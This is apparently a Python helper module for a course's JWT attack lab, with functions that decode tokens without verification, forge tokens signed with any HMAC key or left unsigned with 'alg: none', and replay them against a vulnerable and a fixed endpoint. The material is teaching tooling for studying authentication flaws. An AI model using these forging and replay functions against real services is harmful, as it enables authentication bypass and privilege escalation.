"""The attacker's toolkit of lesson 11 (the JWT attack lab): read a JWT without checking it, forge one, replay it.

Lesson 10 builds these by hand and explains every byte; lesson 11 (parts a
and b) uses them on every attack, so they live here once instead of in a
cell of each notebook::

    >>> token = forge({"alg": "HS256"}, {"sub": "bob", "admin": True}, b"a guessed secret")
    >>> read_jwt(token)
    ({'alg': 'HS256'}, {'sub': 'bob', 'admin': True})
    >>> forge({"alg": "none"}, {"sub": "bob"})  # unsigned: nothing after the last dot
    'eyJhbGciOiJub25lIn0.eyJzdWIiOiJib2IifQ.'

:func:`forge` signs with plain :mod:`hmac`, never PyJWT: PyJWT refuses the
keys these attacks need (an RSA public key's PEM bytes, an empty key), which
is exactly why a hand-written verifier falls for them.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json

#: The lab's fixed API: every forged token is replayed there too, and must be refused.
FIXED_WHOAMI = "/jwt-lab/whoami/"


def b64url(data: bytes) -> str:
    """``data`` in base64url without ``=`` padding (RFC 7515 §2), as text."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_json(part: dict) -> str:
    """A JOSE header or a claims set as compact JSON, in base64url."""
    return b64url(json.dumps(part, separators=(",", ":")).encode())


def read_jwt(token: str) -> tuple[dict, dict]:
    """Header and payload of a compact JWT, decoded WITHOUT any check (what an attacker sees).

    Raises :class:`ValueError` if ``token`` is not three dot-separated parts of base64url JSON.
    """
    header, payload, _ = token.split(".")
    return tuple(
        json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))) for part in (header, payload)
    )


def forge(header: dict, payload: dict, key: bytes | None = None) -> str:
    """A JWT whose signature is HMAC-SHA256 under ANY ``key`` (plain :mod:`hmac`), or unsigned if ``key`` is None.

    The header is written as given: ``forge`` does not set ``alg`` for you.
    """
    signing_input = b64url_json(header) + "." + b64url_json(payload)
    if key is None:
        return signing_input + "."
    return signing_input + "." + b64url(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())


def replay_token(client, token: str, vulnerable_path: str, fixed_path: str = FIXED_WHOAMI):
    """Send ``token`` as a Bearer token to ``vulnerable_path`` and to the fixed API; display and return both answers.

    Returns ``[(status, json), (status, json)]``, the vulnerable endpoint's first. The table shown
    has one row per endpoint: status, the user and admin flag it read, or why it refused.
    """
    from IPython.display import display

    from course_helpers.display import Table

    answers = []
    for path in (vulnerable_path, fixed_path):
        reply = client.get(path, headers={"Authorization": f"Bearer {token}"})
        answers.append((reply.status_code, reply.json()))
    rows = [
        (path, status, body.get("user", ""), body.get("admin", ""), body.get("reason", "")[:70])
        for path, (status, body) in zip((vulnerable_path, fixed_path), answers, strict=True)
    ]
    display(Table(["endpoint", "status", "user", "admin", "why refused"], rows))
    return answers


__all__ = ["FIXED_WHOAMI", "b64url", "b64url_json", "forge", "read_jwt", "replay_token"]
